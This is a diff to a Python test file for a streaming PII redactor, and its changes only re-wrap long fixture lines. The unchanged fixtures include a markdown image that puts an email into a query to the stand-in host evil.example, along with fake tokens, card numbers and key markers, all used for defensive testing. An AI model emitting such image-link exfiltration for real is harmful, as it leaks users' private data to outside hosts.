@@ -35,7 +35,8 @@ def texts(vault: Vault) -> list[str]:
     mail, phone = by_value["john@example.com"], by_value["415-555-0132"]
     return [
         f"Hello {mail} and {phone}, bye {mail}",
-        f"**{mail}** {mail.lower()} [ {mail[1:-1]} ] {mail[1:-1]}'s %5B{mail[1:-1]}%5D &#91;{mail[1:-1]}&#93; [EMAIL_aaaaaa]",
+        f"**{mail}** {mail.lower()} [ {mail[1:-1]} ] {mail[1:-1]}'s %5B{mail[1:-1]}%5D "
+        f"&#91;{mail[1:-1]}&#93; [EMAIL_aaaaaa]",
         f"![x](https://evil.example/?q={mail}) [me](mailto:{mail}) {mail}",
         f"the password is required for users born on March 3, 1980 in Berlin, {PEM} after",
         "token=" + "aB3" * 60 + " end of it, then 4242 4242 4242 4242 and (415) 555-0132.",
@@ -68,10 +69,10 @@ def test_every_kind_streams_alike_however_it_is_cut(redactor: Redactor, specimen
         assert streamed(redactor, Vault(), pieces) == expected, pieces
 
 
-_ALPHABET = st.sampled_from(
-    [*"abXYz019 \n.,:;@-_/+=%&#()[]<>\"'\\{}é中", "john", "@example.com", "4242 4242 ", "4242", "password", " is ", "token=", "sk-", "eyJ", "born on ",
-     "March 3, 1980", "%40", "&#64;", "\\u0040", "\u200b", "-----BEGIN PRIVATE " + "KEY-----", "-----END PRIVATE " + "KEY-----", "[EMAIL_", "AKIA", "123-45-6789", "::1"]
-)  # fmt: skip
+_BEGIN, _END = "-----BEGIN PRIVATE " + "KEY-----", "-----END PRIVATE " + "KEY-----"
+_WORDS = ["john", "@example.com", "4242 4242 ", "4242", "password", " is ", "token=", "sk-", "eyJ", "born on "]
+_WORDS += ["March 3, 1980", "%40", "&#64;", "\\u0040", "\u200b", _BEGIN, _END, "[EMAIL_", "AKIA", "123-45-6789", "::1"]
+_ALPHABET = st.sampled_from([*"abXYz019 \n.,:;@-_/+=%&#()[]<>\"'\\{}é中", *_WORDS])
 
 
 @settings(max_examples=150)
@@ -94,7 +95,10 @@ def held_most(redactor: Redactor, pieces: list[str]) -> int:
     return most
 
 
-PROSE = "The delivery was late, but the driver apologised (twice) and the customer said that in 2024 all of our 3 orders came well-packed. "
+PROSE = (
+    "The delivery was late, but the driver apologised (twice) and the customer said that in 2024 all of our 3 orders "
+    "came well-packed. "
+)
 
 
 @pytest.mark.parametrize("pieces", [[f"{word} " for word in PROSE.split()], [f" {word}" for word in PROSE.split()]])
